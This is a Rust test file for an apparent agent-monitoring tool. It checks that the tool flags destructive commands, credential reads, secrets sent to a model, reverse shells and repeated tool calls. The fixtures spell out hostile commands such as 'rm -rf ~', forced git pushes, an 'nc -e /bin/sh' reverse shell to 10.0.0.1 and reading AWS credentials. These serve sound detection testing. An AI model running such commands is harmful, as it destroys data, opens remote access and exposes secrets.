//! What somebody should look at: commands that destroy something, files with credentials, secrets that are sent to a model, loops,
//! TLS that was not seen. Each is told once, and does not give away what it is about.

mod common;

use agentsight_formats::record::direction::{RECEIVED, SENT};
use agentsight_formats::record::{StdioData, kind, stdio_type};
use common::run::{AGENT, Run};
use common::*;
use serde_json::{Value, json};
use zerocopy::FromZeros;

/// Rule, severity and subject of each finding.
fn findings(seen: &Collected) -> Vec<(&str, &str, &str)> {
    let rows = seen.table("findings").into_iter();
    rows.map(|row| (row["rule_id"].as_str(), row["severity"].as_str(), row["subject_kind"].as_str())).collect()
}

const DELETE: (&str, &str, &str) = ("command/recursive-delete", "high", "tool_call");

// ---- commands ----

#[test]
fn a_command_that_is_asked_for_and_run_is_told_once() {
    let mut run = Run::new();
    run.ask(&[("a", "bash", r#"{"command":"cd /w && sudo rm -rf ~"}"#)]);
    run.start(AGENT, 20, &["bash", "-c", "cd /w && sudo rm -rf ~"]);
    run.start(20, 21, &["sudo", "rm", "-rf", "/root"]);
    run.start(21, 22, &["rm", "-rf", "/root"]);
    run.answer(&["a"]);
    let seen = run.rows();
    assert_eq!(findings(&seen), [DELETE]);
    let finding = seen.table("findings")[0];
    assert_eq!(finding["subject_key"], "1");
    assert_eq!(finding["message"], "the model asks bash for a command that deletes a home folder");
    assert_eq!(finding["evidence"], "rm -rf ~");
}

#[test]
fn what_no_tool_call_asks_for_is_told_where_it_starts() {
    let mut run = Run::new();
    run.start(AGENT, 20, &["sh", "-c", "rm -rf /* && git push -f"]);
    run.start(20, 21, &["rm", "-rf", "/bin", "/usr"]);
    run.start(20, 22, &["git", "push", "-f"]);
    run.start(22, 23, &["git", "clean", "-fd"]);
    run.start(AGENT, 24, &["git", "push", "-f"]);
    let seen = run.rows();
    let expected = [
        ("command/recursive-delete", "high", "exec"),
        ("command/git-force-push", "high", "exec"),
        ("command/git-discard", "medium", "exec"),
        ("command/git-force-push", "high", "exec"),
    ];
    assert_eq!(findings(&seen), expected);
    let execs = seen.table("execs");
    let key = |at: usize| format!("{}@{}", execs[at]["proc_id"], execs[at]["ts"]);
    let keys: Vec<&str> = seen.table("findings").iter().map(|row| row["subject_key"].as_str()).collect();
    assert_eq!(keys, [key(1), key(1), key(4), key(5)]);
}

#[test]
fn text_that_names_a_command_is_no_finding() {
    let mut run = Run::new();
    let calls = [
        ("a", "bash", r#"{"command":"echo \"rm -rf /\"; grep -r 'rm -rf /' ."}"#),
        ("b", "write", r#"{"file_path":"/w/x.sh","content":"rm -rf /"}"#),
        ("c", "bash", r#"{"command":"cat > x.sh <<'E'\nrm -rf /\nE"}"#),
    ];
    run.ask(&calls);
    run.start(AGENT, 20, &["bash", "-c", "echo \"rm -rf /\"; grep -r 'rm -rf /' ."]);
    run.start(20, 21, &["grep", "-r", "rm -rf /", "."]);
    run.answer(&["a", "b", "c"]);
    assert_eq!(findings(&run.rows()), []);
}

/// A process reads from its standard input, which is a connection of the network, or a pipe.
fn reads_commands(run: &mut Run, tgid: u32, object_type: u16) {
    let time = run.time();
    let fixed = StdioData {
        header: header(kind::STDIO_DATA, time, tgid),
        object: 7.into(),
        len: 3.into(),
        captured: 3.into(),
        direction: RECEIVED.into(),
        object_type: object_type.into(),
        ..StdioData::new_zeroed()
    };
    run.script.records.push(bytes(&fixed, &[b"id\n"]));
}

#[test]
fn a_shell_that_takes_commands_from_the_network_is_told_whatever_made_it_so() {
    let mut run = Run::new();
    run.start(AGENT, 20, &["bash", "-i"]);
    run.start(AGENT, 21, &["sh"]);
    run.start(AGENT, 22, &["sh", "handler.sh"]);
    run.start(AGENT, 23, &["nc", "-e", "/bin/sh", "10.0.0.1", "4242"]);
    run.exec(23, &["/bin/sh"]);
    run.start(AGENT, 24, &["cat"]);
    reads_commands(&mut run, 20, stdio_type::NETWORK_SOCKET);
    reads_commands(&mut run, 20, stdio_type::NETWORK_SOCKET);
    reads_commands(&mut run, 21, stdio_type::PIPE);
    [22, 23, 24].iter().for_each(|tgid| reads_commands(&mut run, *tgid, stdio_type::NETWORK_SOCKET));
    let seen = run.rows();
    let expected = [("command/reverse-shell", "high", "exec"), ("command/reverse-shell", "high", "process")];
    assert_eq!(findings(&seen), expected);
    assert_eq!(seen.cells("findings", &["subject_key", "evidence"])[1], ["2", "bash -i"]);
}

// ---- credentials ----

#[test]
fn a_file_that_a_tool_call_reads_and_whose_content_goes_to_the_model() {
    let mut run = Run::new();
    run.ask(&[("a", "bash", r#"{"command":"cat /home/me/.aws/credentials"}"#)]);
    run.start(AGENT, 20, &["bash", "-c", "cat /home/me/.aws/credentials"]);
    run.start(20, 21, &["cat", "/home/me/.aws/credentials"]);
    run.read(21, "/home/me/.aws/credentials", 116);
    run.read(21, "/home/me/.aws/credentials", 116);
    run.read(21, "/etc/hosts", 20);
    run.answer_with(&[("a", "[default]")]);
    let seen = run.rows();
    let expected = [("credential-file-read", "medium", "file"), ("credential-file-sent", "high", "tool_call")];
    assert_eq!(findings(&seen), expected);
    let rows = seen.table("findings");
    assert_eq!(rows[0]["message"], "cat read credentials of a cloud");
    assert_eq!(rows[0]["evidence"], "116 bytes of /home/me/.aws/credentials");
    assert_eq!(rows[1]["message"], "bash read credentials of a cloud, and its result went to the model with call 2");
    let classes: Vec<_> = seen.table("files").iter().filter_map(|row| row.get("sensitive_class")).collect();
    assert_eq!(classes, ["cloud"; 4]);
}

#[test]
fn a_file_that_is_used_or_not_read_is_not_sent() {
    let mut run = Run::new();
    // Nobody asked for it.
    run.start(AGENT, 20, &["ssh", "host"]);
    run.read(20, "/home/me/.ssh/id_ed25519", 400);
    run.read(AGENT, "/home/me/.netrc", 40);
    // It is for whom it is made; it is there, and empty; it is read too late.
    run.ask(&[("a", "bash", r#"{"command":"git push"}"#), ("b", "bash", r#"{"command":"ls"}"#)]);
    run.start(AGENT, 21, &["git", "push"]);
    run.start(21, 22, &["ssh", "git@host"]);
    run.read(22, "/home/me/.ssh/id_ed25519", 400);
    run.start(AGENT, 23, &["ls"]);
    run.read(23, "/w/.env", 0);
    run.answer(&["a", "b"]);
    run.read(23, "/w/.env", 40);
    let seen = run.rows();
    let expected = [
        ("credential-file-read", "low", "file"),
        ("credential-file-read", "low", "file"),
        ("credential-file-read", "medium", "file"),
    ];
    assert_eq!(findings(&seen), expected);
    let evidence: Vec<&str> = seen.table("findings").iter().map(|row| row["evidence"].as_str()).collect();
    assert_eq!(
        evidence,
        ["40 bytes of /home/me/.netrc", "400 bytes of /home/me/.ssh/id_ed25519", "40 bytes of /w/.env"]
    );
}

// ---- secrets and loops ----

/// A conversation with a model, sent whole with every call.
struct Talk {
    messages: Vec<Value>,
}

impl Talk {
    fn new(prompt: &str) -> Self {
        Talk { messages: vec![json!({"role": "user", "content": prompt})] }
    }

    fn say(&mut self, run: &mut Run, content: Value, stop: &str) {
        let body = json!({"model": "x", "max_tokens": 9, "messages": self.messages});
        let answer = json!({"id": "m", "model": "x", "content": content, "stop_reason": stop});
        run.exchange(&body.to_string(), &answer.to_string());
        self.messages.push(json!({"role": "assistant", "content": content}));
    }

    /// The model asks for a tool, and gets its result with the next call.
    fn tool(&mut self, run: &mut Run, input: Value, result: &str, is_error: bool) {
        let id = format!("t{}", self.messages.len());
        self.say(run, json!([{"type": "tool_use", "id": id, "name": "look", "input": input}]), "tool_use");
        let part = json!({"type": "tool_result", "tool_use_id": id, "content": result, "is_error": is_error});
        self.messages.push(json!({"role": "user", "content": [part]}));
    }

    fn end(&mut self, run: &mut Run) {
        self.say(run, json!([{"type": "text", "text": "done"}]), "end_turn");
    }
}

/// What looks like a secret, made here so that none stands in this file.
fn token(start: &str, len: usize) -> String {
    let letters = b"q7Wz3kLm9TxR2vYb5NcH8dJf4PgS6sGa";
    start.chars().chain((0..len).map(|at| char::from(letters[(at * 7 + at / 5) % letters.len()]))).collect()
}

#[test]
fn a_secret_is_told_once_a_conversation_and_masked() {
    let (pat, key) = (token("ghp_", 36), token("AKIA", 0) + &"Q3XZ7LMN2TYRPVBC"[..16]);
    let mut run = Run::new();
    let mut talk = Talk::new(&format!("my token is {pat}, use it"));
    talk.tool(&mut run, json!({"path": "x"}), &format!("[default]\naws_access_key_id={key}\n"), false);
    talk.tool(&mut run, json!({"path": "y"}), &format!("again\n{key}\nand {pat}"), false);
    talk.end(&mut run);
    Talk::new(&format!("something else, with {pat}")).end(&mut run);
    let seen = run.rows();
    let call = "llm_call";
    let expected = [
        ("secret/github-pat", "high", call),
        ("secret/aws-access-token", "high", call),
        ("secret/github-pat", "high", call),
    ];
    assert_eq!(findings(&seen), expected);
    let rows = seen.table("findings");
    let keys: Vec<&str> = rows.iter().map(|row| row["subject_key"].as_str()).collect();
    assert_eq!(keys, ["1", "2", "4"]);
    assert!(rows[0]["message"].starts_with("GitHub personal access token sent to x of "), "{}", rows[0]["message"]);
    assert!(rows[0]["message"].ends_with(", in a prompt"), "{}", rows[0]["message"]);
    assert!(rows[1]["message"].ends_with(", in the result of a tool"), "{}", rows[1]["message"]);
    assert!(rows[0]["evidence"].starts_with("ghp_…"), "{}", rows[0]["evidence"]);
    let cells = rows.iter().flat_map(|row| row.values());
    for cell in cells {
        assert!(!cell.contains(&pat[4..10]) && !cell.contains(&key[4..10]), "{cell}");
    }
}

#[test]
fn a_key_is_found_behind_escapes_and_not_in_the_header_that_carries_it() {
    let lines: String = (0..4).map(|_| token("", 64) + "\n").collect();
    let pem = format!("-----BEGIN OPENSSH {0} KEY-----\n{lines}-----END OPENSSH {0} KEY-----\n", "PRIVATE");
    let mut run = Run::new();
    let header = format!("anthropic-version: 2023-06-01\r\nx-api-key: {}AA\r\n", token("sk-ant-api03-", 93));
    let body = json!({"model": "x", "max_tokens": 9, "messages": [
        {"role": "user", "content": "go"},
        {"role": "assistant", "content": [{"type": "tool_use", "id": "t", "name": "write", "input": {"text": pem}}]},
        {"role": "user", "content": [{"type": "tool_result", "tool_use_id": "t", "content": "ok"}]},
    ]});
    run.script.say(1, SENT, &request("/v1/messages", &header, &body.to_string()));
    run.script.say(1, RECEIVED, &response("", br#"{"id":"m","model":"x","content":[],"stop_reason":"end_turn"}"#));
    let seen = run.rows();
    assert_eq!(findings(&seen), [("secret/private-key", "high", "llm_call")]);
    assert!(seen.table("findings")[0]["message"].ends_with(", in the arguments of a tool"));
}

#[test]
fn what_goes_round_in_circles_is_told_and_what_goes_on_is_not() {
    let run = |result: &dyn Fn(usize) -> (Value, String, bool), times| {
        let (mut run, mut talk) = (Run::new(), Talk::new("go"));
        for at in 0..times {
            let (input, result, is_error) = result(at);
            talk.tool(&mut run, input, &result, is_error);
        }
        talk.end(&mut run);
        let seen = run.rows();
        findings(&seen).iter().map(|(rule, severity, _)| format!("{rule} {severity}")).collect::<Vec<_>>()
    };
    let same = |_| (json!({"path": "x"}), "same".to_owned(), false);
    assert_eq!(run(&same, 2), [""; 0]);
    assert_eq!(run(&same, 5), ["tool-call-repeated low"]);
    assert_eq!(run(&same, 12), ["tool-call-repeated low", "tool-call-runaway high"]);
    assert_eq!(run(&|at| (json!({"path": "x"}), format!("{at}"), false), 5), [""; 0]);
    assert_eq!(run(&|at| (json!({"path": at}), "same".to_owned(), false), 5), [""; 0]);
    let fails = |at| (json!({"path": at}), "no such file".to_owned(), true);
    assert_eq!(run(&fails, 4), [""; 0]);
    assert_eq!(run(&fails, 6), ["tool-errors-repeated medium"]);
    assert_eq!(run(&|at| (json!({"path": at}), "x".to_owned(), at % 3 != 0), 9), [""; 0]);
}

#[test]
fn the_same_question_is_a_loop_and_a_retry_is_none() {
    let ask = |answers: &[&str]| {
        let mut run = Run::new();
        let body = r#"{"model":"x","max_tokens":9,"messages":[{"role":"user","content":"go"}]}"#;
        answers.iter().for_each(|answer| run.exchange(body, answer));
        let seen = run.rows();
        findings(&seen).iter().map(|(rule, severity, _)| format!("{rule} {severity}")).collect::<Vec<_>>()
    };
    let done = r#"{"id":"m","model":"x","content":[{"type":"text","text":"a"}],"stop_reason":"end_turn"}"#;
    let busy = r#"{"type":"error","error":{"type":"overloaded_error","message":"busy"}}"#;
    assert_eq!(ask(&[busy, busy, done, done]), [""; 0]);
    assert_eq!(ask(&[done, done, done, done]), ["llm-call-repeated low"]);
    assert_eq!(ask(&[busy, busy, busy, busy, busy, busy, done]), ["llm-errors-repeated medium"]);
}
